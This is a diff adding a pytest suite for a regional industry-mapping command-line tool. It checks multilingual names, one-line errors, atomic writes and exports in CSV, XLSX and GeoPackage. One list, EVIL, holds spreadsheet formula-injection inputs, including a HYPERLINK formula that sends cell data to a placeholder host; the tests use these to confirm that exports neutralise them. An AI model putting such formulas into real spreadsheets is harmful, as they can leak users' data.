@@ -1,0 +1,392 @@
+"""Command line and writers: names in any language, one-line errors with exit 2, nothing written on failure,
+atomic replacement (also on SIGINT/SIGTERM), formula-safe spreadsheets, a GeoPackage GDAL 3.6 opens cleanly."""
+
+from __future__ import annotations
+
+import io
+import os
+import shutil
+import signal
+import sqlite3
+import subprocess
+import sys
+import time
+import zipfile
+from pathlib import Path
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from sq_layout.analysis.queries import Selection
+from sq_layout.atomic import write_bytes
+from sq_layout.cli import COMMANDS, main
+from sq_layout.errors import DataError, OutputNotWritable, UnknownValue
+from sq_layout.export.dataexport import GPKG_VERSION, csv_zip, export_bytes, neutralise, xlsx
+from sq_layout.export.registry import FORMATS, for_path, mime
+from sq_layout.plan.names import resolve, resolve_chain
+
+ROOT = Path(__file__).resolve().parents[1]
+
+
+def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
+    code = main(list(argv))
+    out, err = capsys.readouterr()
+    return code, out, err
+
+
+def listing(folder: Path) -> list[str]:
+    return sorted(p.name for p in folder.iterdir())
+
+
+# --- names --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("kind", "typed", "expected"),
+    [
+        ("areas", "泗洪县", "sihong"),
+        ("areas", "Sihong County", "sihong"),
+        ("areas", "SIHONG", "sihong"),
+        ("industries", "光伏新能源", "pv"),
+        ("chains", "晶硅光伏", "3"),
+        ("chains", "3", "3"),
+        ("tiers", "主导产业", "dominant"),
+    ],
+)
+def test_names_accepted_in_chinese_english_or_by_id(ds, kind, typed, expected):
+    assert resolve(ds, kind, typed) == expected
+
+
+def test_unknown_name_lists_choices_and_a_close_match(ds):
+    with pytest.raises(UnknownValue) as exc:
+        resolve_chain(ds, "晶硅光扶")
+    msg = str(exc.value)
+    assert "did you mean '晶硅光伏'" in msg and "3=晶硅光伏" in msg and "20=大数据+" in msg
+
+
+def test_list_prints_every_name(ds, capsys):
+    code, out, _ = run_cli(capsys, "list", "areas")
+    assert code == 0
+    rows = [line.split("\t") for line in out.splitlines()]
+    assert rows[4] == ["sihong", "泗洪县", "Sihong County"] and len(rows) == 9
+    code, out, _ = run_cli(capsys, "list", "chains")
+    assert len(out.splitlines()) == 20 and out.startswith("1\t化学纤维")
+
+
+def test_help_names_the_accepted_spellings(capsys):
+    with pytest.raises(SystemExit):
+        main(["data", "--help"])
+    out = capsys.readouterr().out
+    assert "晶硅光伏" in out and "list chains" in out and ".gpkg" in out
+
+
+# --- user mistakes: one line, exit 2, nothing written ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("argv", "message"),
+    [
+        (["data", "--chain", "3", "-o", "{d}/x.txt"], "(choose from: .xlsx, .zip, .csv"),
+        (["export", "--chain", "3", "-o", "{d}/x.tif"], "(choose from: .png, .svg, .pdf)"),
+        (["export", "--chain", "99", "-o", "{d}/x.png"], "unknown chain '99'"),
+        (["export", "--area", "nowhere", "-o", "{d}/x.png"], "unknown area 'nowhere'"),
+        (["export", "--industry", "光伏", "-o", "{d}/x.png"], "did you mean"),
+        (["export", "--chain", "3", "--dpi", "20000", "-o", "{d}/x.png"], "--dpi 20000 is out of range"),
+        (["atlas", "--dpi", "20000", "-o", "{d}/atlas"], "--dpi 20000 is out of range"),
+        (["export", "--chain", "3", "-o", "{d}/missing/x.png"], "folder {d}/missing does not exist"),
+        (["data", "--chain", "3", "-o", "{d}/missing/x.xlsx"], "folder {d}/missing does not exist"),
+        (["audit", "--xlsx", "{d}/missing/a.xlsx"], "folder {d}/missing does not exist"),
+        (["audit", "--xlsx", "{d}/a.txt"], "unknown file type '.txt'"),
+        (["data", "-o", "{d}/x.xlsx"], "nothing selected: add --chain/--industry/--sub/--tier/--area, or --all"),
+        (["data", "--chain", "3", "-o", "{d}/x.csv"], "a .csv holds one table and this export has 2 (areas, hosts)"),
+        (["data", "--chain", "3", "--table", "nope", "-o", "{d}/x.csv"], "unknown table 'nope'"),
+    ],
+)
+def test_user_mistakes_end_with_one_line_and_exit_2_writing_nothing(capsys, tmp_path, argv, message):
+    (tmp_path / "keep.docx").write_bytes(b"thesis")
+    code, _, err = run_cli(capsys, *[a.format(d=tmp_path) for a in argv])
+    assert code == 2
+    assert err.startswith("error: ") and message.format(d=tmp_path) in err and "Traceback" not in err
+    assert len(err.strip().splitlines()) == 1
+    assert listing(tmp_path) == ["keep.docx"]
+
+
+def test_output_naming_a_folder_is_refused(capsys, tmp_path):
+    (tmp_path / "x.xlsx").mkdir()
+    code, _, err = run_cli(capsys, "data", "--chain", "3", "-o", str(tmp_path / "x.xlsx"))
+    assert code == 2 and "a folder of that name exists" in err and listing(tmp_path / "x.xlsx") == []
+
+
+def test_output_under_a_file_is_refused(capsys, tmp_path):
+    (tmp_path / "afile").write_text("x")
+    code, _, err = run_cli(capsys, "data", "--chain", "3", "-o", str(tmp_path / "afile" / "x.xlsx"))
+    assert code == 2 and "is not a folder" in err
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root may write into read-only folders")
+def test_read_only_folder_is_refused(capsys, tmp_path):
+    ro = tmp_path / "ro"
+    ro.mkdir(mode=0o555)
+    code, _, err = run_cli(capsys, "data", "--chain", "3", "-o", str(ro / "x.xlsx"))
+    assert code == 2 and "is not writable" in err and listing(ro) == []
+
+
+def test_bugs_keep_their_traceback(monkeypatch, tmp_path):
+    def broken(a):
+        raise KeyError("a bug")
+
+    monkeypatch.setattr(COMMANDS[0], "run", broken)
+    with pytest.raises(KeyError, match="a bug"):
+        main(["export", "--chain", "3", "-o", str(tmp_path / "x.png")])
+    result = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "import sq_layout.cli as c; c.COMMANDS[4].run = lambda a: {}['x']; c.main(['list', 'areas'])",
+        ],
+        cwd=ROOT,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert result.returncode == 1 and "Traceback" in result.stderr and "KeyError" in result.stderr
+
+
+def test_names_typed_in_chinese_export_a_map(capsys, tmp_path):
+    code, _, err = run_cli(
+        capsys, "export", "--chain", "晶硅光伏", "--area", "泗洪县", "--dpi", "40", "-o", str(tmp_path / "pv.png")
+    )
+    assert code == 0, err
+    assert listing(tmp_path) == ["pv.png"] and (tmp_path / "pv.png").read_bytes().startswith(b"\x89PNG")
+
+
+# --- formats ---------------------------------------------------------------------------------------
+
+
+def test_registry_is_the_one_list_of_formats():
+    assert for_path("x.CSV", "data").id == "csv" and for_path("a/b.gpkg", "data").id == "gpkg"
+    assert mime("sq.xlsx").endswith("spreadsheetml.sheet") and mime("m.svg") == "image/svg+xml"
+    assert len({f.suffix for f in FORMATS}) == len(FORMATS)
+
+
+def test_csv_writes_one_table_as_csv_not_a_zip(capsys, tmp_path):
+    target = tmp_path / "hosts.csv"
+    code, _, err = run_cli(capsys, "data", "--chain", "晶硅光伏", "--table", "hosts", "-o", str(target))
+    assert code == 0, err
+    raw = target.read_bytes()
+    assert raw.startswith(b"\xef\xbb\xbf") and not zipfile.is_zipfile(target)
+    assert "泗洪县" in raw.decode("utf-8-sig")
+
+
+EVIL = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain", "-"]
+
+
+def test_formula_cells_are_neutralised():
+    df = pd.DataFrame({"name": EVIL, "n": range(len(EVIL))})
+    out = neutralise(df)
+    assert list(out["name"][:5]) == ["'" + v for v in EVIL[:5]] and out["name"][5] == "plain"
+    assert list(out["n"]) == list(range(len(EVIL)))  # numbers stay numbers
+
+
+@pytest.fixture
+def evil_ds(ds):
+    from dataclasses import replace
+
+    areas = ds.areas.copy()
+    areas.loc[areas["area_id"] == "sihong", "name"] = EVIL[0]
+    return replace(ds, areas=areas)
+
+
+def test_csv_zip_has_no_live_formula(evil_ds):
+    z = zipfile.ZipFile(io.BytesIO(export_bytes("zip", evil_ds, Selection(), None, "zh", whole=True)))
+    text = z.read("areas.csv").decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ",=HYPERLINK" not in text
+
+
+def test_single_csv_has_no_live_formula(evil_ds):
+    raw = export_bytes("csv", evil_ds, Selection(), None, "zh", whole=False)
+    frame = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig")
+    assert frame["name"].str.startswith("'=HYPERLINK").any()
+
+
+def test_xlsx_has_no_formula_cell(evil_ds):
+    wb = openpyxl.load_workbook(io.BytesIO(export_bytes("xlsx", evil_ds, Selection(), None, "zh", whole=True)))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
+    # the audit workbook goes through the same writer
+    wb2 = openpyxl.load_workbook(io.BytesIO(xlsx({"t": pd.DataFrame({"x": ["=1+1"]})}, "zh")))
+    assert wb2["t"]["A2"].data_type != "f" and wb2["t"]["A2"].value == "'=1+1"
+    assert csv_zip({"t": pd.DataFrame({"x": ["@x"]})}, "zh")
+
+
+def test_geopackage_is_version_1_2_and_gdal_opens_it_without_warning(ds, tmp_path):
+    path = write_bytes(tmp_path / "x.gpkg", export_bytes("gpkg", ds, Selection(chains=(3,)), "sihong", "zh", False))
+    with sqlite3.connect(path) as con:
+        major, minor = map(int, GPKG_VERSION.split("."))
+        assert con.execute("PRAGMA user_version").fetchone()[0] == major * 10000 + minor * 100
+    if not shutil.which("ogrinfo"):
+        pytest.skip("gdal-bin not installed (.ci/run installs it)")
+    result = subprocess.run(["ogrinfo", "-so", "-al", str(path)], capture_output=True, text=True, timeout=60)
+    assert result.returncode == 0 and "Warning" not in result.stderr + result.stdout, result.stderr
+    assert "areas" in result.stdout and "hosts" in result.stdout
+
+
+# --- atomic writes -------------------------------------------------------------------------------
+
+
+def test_failed_write_keeps_the_previous_file_and_leaves_nothing(tmp_path):
+    target = write_bytes(tmp_path / "map.png", b"good")
+    from sq_layout.atomic import atomic_path
+
+    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
+        tmp.write_bytes(b"half")
+        raise RuntimeError("disk full")
+    assert target.read_bytes() == b"good" and listing(tmp_path) == ["map.png"]
+    with pytest.raises(OutputNotWritable):
+        write_bytes(tmp_path / "nope" / "x.png", b"")
+
+
+SLOW_WRITER = """
+import sys, time
+from sq_layout.atomic import atomic_path
+with atomic_path(sys.argv[1]) as tmp, tmp.open("wb") as f:
+    for _ in range(600):
+        f.write(b"x" * 1000); f.flush(); time.sleep(0.01)
+"""
+
+
+@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
+def test_signal_while_writing_keeps_the_previous_file_and_leaves_nothing(tmp_path, sig):
+    target = tmp_path / "pv.png"
+    target.write_bytes(b"previous good map")
+    proc = subprocess.Popen([sys.executable, "-c", SLOW_WRITER, str(target)], cwd=ROOT, stderr=subprocess.PIPE)
+    deadline = time.time() + 60
+    while time.time() < deadline and not [p for p in tmp_path.iterdir() if p.name.startswith(".pv.png.")]:
+        time.sleep(0.02)
+    time.sleep(0.3)  # well inside the six-second write
+    assert [p for p in tmp_path.iterdir() if p.name.startswith(".pv.png.")]
+    proc.send_signal(sig)
+    proc.wait(timeout=60)
+    assert proc.returncode != 0
+    assert target.read_bytes() == b"previous good map" and listing(tmp_path) == ["pv.png"]
+
+
+@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM])
+def test_interrupted_export_keeps_the_previous_file(tmp_path, sig):
+    target = tmp_path / "pv.png"
+    target.write_bytes(b"previous good map")
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "sq_layout", "export", "--chain", "3", "--dpi", "600", "-o", str(target)],
+        cwd=ROOT,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    time.sleep(2.5)  # importing and rendering
+    proc.send_signal(sig)
+    proc.wait(timeout=60)
+    assert target.read_bytes() in (b"previous good map",) or target.read_bytes().startswith(b"\x89PNG")
+    assert listing(tmp_path) == ["pv.png"]
+
+
+def test_audit_workbook_has_readable_unique_headers_names_and_rounded_figures(capsys, tmp_path):
+    target = tmp_path / "audit.xlsx"
+    code, _, err = run_cli(capsys, "audit", "--lang", "en", "--xlsx", str(target))
+    assert code == 0, err
+    wb = openpyxl.load_workbook(target)
+    for ws in wb.worksheets[1:]:
+        header = [c.value for c in ws[1]]
+        assert len(header) == len(set(header)), (ws.title, header)
+        assert not [h for h in header if h and "_" in str(h)], (ws.title, header)
+    values = [str(c.value) for ws in wb.worksheets for row in ws.iter_rows(min_row=2) for c in row if c.value]
+    assert not [v for v in values if v.startswith("('")], "tuple text"
+    spread = wb["chain_spread"]
+    hosts = [c.value for c in spread[1]].index("Hosting areas")
+    assert "Sucheng District" in str(spread.cell(2, hosts + 1).value)
+    sim = wb["similar_pairs"]
+    assert [c.value for c in sim[1]] == ["Area A", "Area B", "Similarity"]
+    assert sim["A2"].value == "Shuyang County" and sim["C2"].value == 0.55
+
+
+def test_app_shows_a_data_error_as_a_message(monkeypatch):
+    import streamlit as st
+    from streamlit.testing.v1 import AppTest
+
+    from sq_layout.errors import DataError
+    from sq_layout.plan import dataset
+
+    def broken() -> None:
+        raise DataError(
+            str(ROOT / "geodata/plan/chains.csv"), ["row 3, column 'target_2025_yi': 'inf' is not a number"]
+        )
+
+    monkeypatch.setattr(dataset, "bundled", broken)
+    st.cache_resource.clear()
+    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
+    st.cache_resource.clear()
+    assert not at.exception
+    shown = " ".join(e.value for e in at.error)
+    assert "geodata/plan/chains.csv" in shown and "target_2025_yi" in shown and str(ROOT) not in shown
+
+
+# --- bad data files -------------------------------------------------------------------------------
+
+
+def _rewrite(path: Path, fn) -> None:
+    lines = path.read_text(encoding="utf-8-sig").splitlines()
+    path.write_text("\n".join(fn(i, line) for i, line in enumerate(lines)) + "\n", encoding="utf-8")
+
+
+def test_trailing_comma_on_every_row_is_read_or_named(data_copy):
+    from tests.conftest import load_copy
+
+    chains = data_copy / "plan" / "chains.csv"
+    _rewrite(chains, lambda i, line: line + "," if i else line)
+    assert len(load_copy(data_copy).chains) == 20  # rows with a trailing comma read as intended
+    _rewrite(chains, lambda i, line: line + "oops" if i == 2 else line)
+    with pytest.raises(DataError, match=r"chains\.csv(.|\n)*row 2 \(line 3\)(.|\n)*oops"):
+        load_copy(data_copy)
+    _rewrite(chains, lambda i, line: line.removesuffix("oops"))
+    _rewrite(chains, lambda i, line: line if i else line + ",")
+    with pytest.raises(DataError) as exc:
+        load_copy(data_copy)
+    assert "chains.csv" in str(exc.value)
+
+
+def test_infinite_target_is_refused_naming_file_row_and_column(data_copy):
+    from tests.conftest import load_copy
+
+    chains = data_copy / "plan" / "chains.csv"
+    _rewrite(chains, lambda i, line: line.replace(",1000,904", ",inf,904") if i == 1 else line)
+    with pytest.raises(DataError) as exc:
+        load_copy(data_copy)
+    msg = str(exc.value)
+    assert "chains.csv" in msg and "row 1" in msg and "target_2025_yi" in msg and "finite" in msg
+
+
+def test_missing_plan_figure_is_a_user_error_naming_the_file(data_copy, monkeypatch, capsys, tmp_path):
+    from sq_layout.cli import common
+    from tests.conftest import load_copy
+
+    figures = data_copy / "plan" / "plan_figures.csv"
+    _rewrite(figures, lambda i, line: "" if line.startswith("T11_total_2020,") else line)
+    broken = load_copy(data_copy)
+    monkeypatch.setattr(common, "dataset", lambda a: broken)
+    out = tmp_path / "out"
+    out.mkdir()
+    code, _, err = run_cli(capsys, "audit", "--xlsx", str(out / "a.xlsx"))
+    assert code == 2 and "plan_figures.csv" in err and "T11_total_2020" in err and "Traceback" not in err
+    assert listing(out) == []
+
+
+def test_dollar_signs_in_a_name_print_as_text(ds, tmp_path):
+    from dataclasses import replace
+
+    from sq_layout.printing.printmap import PrintSpec, render_map, save_figure
+
+    chains = ds.chains.copy()
+    chains.loc[chains["chain_no"] == 3, "name"] = r"$\frac{1}$"
+    fig = render_map(replace(ds, chains=chains), Selection(chains=(3,)), None, PrintSpec(dpi=30))
+    save_figure(fig, tmp_path / "x.png")
+    assert any(t.get_text() == r"$\frac{1}$" for t in fig.axes[0].get_legend().get_texts())
